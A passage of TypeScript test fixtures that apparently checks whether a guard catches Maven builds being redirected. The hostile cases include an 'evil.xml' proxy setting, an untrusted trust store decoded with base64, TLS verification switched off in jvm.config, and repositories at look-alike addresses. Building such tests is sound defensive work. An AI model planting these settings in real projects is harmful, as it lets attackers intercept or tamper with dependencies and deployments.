        ...mavenConfig("-s", "evil.xml"),
        ".mvn/jvm.config":
          "-Djavax.net.ssl.trustStore=store.p12\n-Djavax.net.ssl.trustStorePassword=changeit\n",
        "evil.xml": proxySettings(at),
        "store.txt": at.untrustedStore,
      }),
    ),
    run: `base64 -d store.txt > store.p12\n${withoutStore}${validate}`,
    expect: "asked",
  },
  {
    id: "maven-store-config",
    title: "a trust store in maven.config, and a proxy in settings",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
        ...mavenConfig(
          "-s",
          "evil.xml",
          "-Djavax.net.ssl.trustStore=store.p12",
          "-Djavax.net.ssl.trustStorePassword=changeit",
        ),
        "evil.xml": proxySettings(at),
        "store.txt": at.untrustedStore,
      }),
    ),
    run: `base64 -d store.txt > store.p12\n${withoutStore}${validate}`,
    expect: "asked",
  },
  {
    id: "maven-proxy-jvm",
    title: "a proxy and TLS switched off in jvm.config",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
        ".mvn/jvm.config": `-Dhttps.proxyHost=127.0.0.1\n-Dhttps.proxyPort=${at.proxyPort}\n-Daether.connector.http.useSystemProperties=true\n${insecure.join("\n")}\n`,
      }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-proxy-settings",
    title: "a proxy in settings that maven.config names",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({ ...mavenConfig("-s", "evil.xml"), "evil.xml": proxySettings(at) }),
    ),
    run: validate,
    expect: "quiet",
  },
  {
    id: "maven-proxy-server",
    title: "a proxy in settings, and a feed that is reached by http",
    face: "server",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        "evil.xml": proxySettings(at).replaceAll("<port>", "<nonProxyHosts>none</nonProxyHosts><port>"),
      }),
    ),
    run: validate,
    expect: "asked",
  },
];

/** Projects that mean no harm, and must go on working. */
const innocent: readonly HostileRepository[] = [
  {
    id: "maven-innocent",
    title: "its own repository",
    files: project((at) => ownRepository(at) + fromFeed),
    run: validate,
    expect: "works",
  },
  {
    id: "maven-innocent-nested",
    title: "its own repository, again in a project below",
    files: project(ownRepository, (at) => ({
      "nested/pom.xml": pom({ artifact: "nested", more: ownRepository(at) + fromFeed }),
    })),
    run: `cd nested && ${validate}`,
    expect: "works",
  },
  {
    id: "maven-innocent-second",
    title: "a second repository of another host",
    files: project(
      (at) =>
        ownRepository(at).replace(
          "</repositories>",
          `<repository><id>more</id><url>${at.evil("maven", "missing")}</url></repository></repositories>`,
        ) + fromFeed,
    ),
    run: validate,
    expect: "works",
  },
  {
    id: "maven-innocent-settings",
    title: "settings of its own with another mirror",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
        ...mavenConfig("-s", "own.xml"),
        "own.xml": settings(mirror("central-mirror", at.evil("maven", "missing"), "central")),
      }),
    ),
    run: validate,
    expect: "works",
  },
  {
    id: "maven-innocent-deploy",
    title: "a release to deploy",
    files: (at) => ({
      "pom.xml": pom({ artifact: "lab-release", more: ownRepository(at) + ownDistribution(at) }),
    }),
    run: deploy,
    expect: "works",
  },
  {
    id: "maven-innocent-snapshot",
    title: "a snapshot to deploy",
    files: (at) => ({
      "pom.xml": pom({
        artifact: "lab-snapshot",
        version: "1.0.0-SNAPSHOT",
        more: ownRepository(at) + distribution("fiber", ownFeed(at), "snapshotRepository"),
      }),
    }),
    run: deploy,
    expect: "works",
  },
  {
    id: "maven-innocent-modules",
    title: "modules to deploy to two feeds",
    files: (at) => ({
      "pom.xml": pom({
        artifact: "lab-modules",
        more: `${ownDistribution(at)}<modules><module>m</module></modules>`,
      }),
      "m/pom.xml": pom({ artifact: "lab-module", more: distribution("shared", at.shared("maven/v1")) }),
    }),
    run: deploy,
    expect: "works",
  },
  {
    id: "maven-innocent-alternative",
    title: "a command line that names the feed",
    files: (at) => ({
      "pom.xml": pom({ artifact: "lab-alternative", more: ownRepository(at) + ownDistribution(at) }),
    }),
    run: (at) => `${deploy} -DaltDeploymentRepository=fiber::default::${ownFeed(at)}`,
    expect: "works",
  },
  {
    id: "maven-innocent-file",
    title: "a file to deploy",
    files: project(ownRepository),
    run: (at) =>
      `${mvn} deploy:deploy-file -Dfile=pom.xml -DgroupId=com.lab -DartifactId=lab-file -Dversion=1.0.0 -Dpackaging=xml -DrepositoryId=any -Durl=${ownFeed(at)}`,
    expect: "works",
  },
  {
    id: "maven-innocent-late",
    title: "a checkout in another folder, which is deployed as release:perform does",
    files: project(ownRepository, (at) => ({
      "checkout.xml": pom({ artifact: "lab-checkout", more: distribution("other", ownFeed(at)) }),
    })),
    run: `mkdir -p target/checkout && mv checkout.xml target/checkout/pom.xml\ncd target/checkout && ${deploy}`,
    expect: "works",
  },
  {
    id: "maven-innocent-extension",
    title: "extensions of its own in maven.config",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      () => mavenConfig("-Dmaven.ext.class.path=none.jar"),
    ),
    run: validate,
    expect: "works",
  },
  {
    id: "maven-innocent-property",
    title: "a property for the address",
    files: (at) => ({
      "pom.xml": pom({
        artifact: "lab-property",
        more: `<properties><to>${ownFeed(at)}</to></properties>${distribution("fiber", "${to}")}`,
      }),
    }),
    run: deploy,
    expect: "works",
  },
  {
    id: "maven-innocent-input",
    title: "a feed of the input to deploy to",
    files: (at) => ({ "pom.xml": pom({ artifact: "lab-input", more: ownDistribution(at) }) }),
    tasks: feeds,
    run: deploy,
    expect: "works",
  },
];

/** All look-alikes at once: Maven asks every repository for what none has. */
const addresses = (["services", "server"] as const).map((face): HostileRepository => ({
  id: `maven-addresses-${face}`,
  title: `repositories at all look-alike addresses of the ${face === "server" ? "Server" : "Services"}`,
  face,
  files: project((at) => {
    const others = lookAlikes
      .filter((each) => (each.face ?? "services") === face)
      .map(
        ({ slug, address }) =>
          `<repository><id>look-${slug}</id><url>${address(at, "maven/v1").replaceAll("&", "&amp;")}</url></repository>`,
      );
    return ownRepository(at).replace("</repositories>", `${others.join("\n")}</repositories>`) + wanted;
  }),
  run: validate,
  expect: "asked",
}));

/** For every version of Maven. */
export const mavenRepositories: readonly HostileRepository[] = [
  ...ids,
  ...options,
  ...expansions,
  ...deployments,
  ...reactor,
  ...tls,
  ...addresses,
  ...innocent,
];

/** Those whose outcome may differ before Maven 3.9: its transport, its plugins and its options are others. */
export const mavenRepositoriesForOld: readonly HostileRepository[] = mavenRepositories.filter(({ id }) =>
  [
    ...["maven-distribution-guessed", "maven-distribution-input", "maven-distribution-nested"],
    ...[
      "maven-settings-two-lines",
      "maven-settings-server",
      "maven-settings-global",
      "maven-settings-deployment",
    ],
    ...["maven-expand-repository", "maven-expand-distribution", "maven-altdeploymentrepository"],
    ...[
      "maven-alternative-pom",
      "maven-deploy-file-config",
      "maven-address-property",
      "maven-modules-missed",
    ],
    ...[
      "maven-expressions",
      "maven-insecure-config",
      "maven-insecure-late",
      "maven-store-jvm",
      "maven-proxy-server",
    ],
    ...["maven-innocent", "maven-innocent-deploy", "maven-innocent-snapshot", "maven-innocent-modules"],
    ...["maven-innocent-alternative", "maven-innocent-file", "maven-innocent-late", "maven-innocent-input"],
  ].includes(id),
);
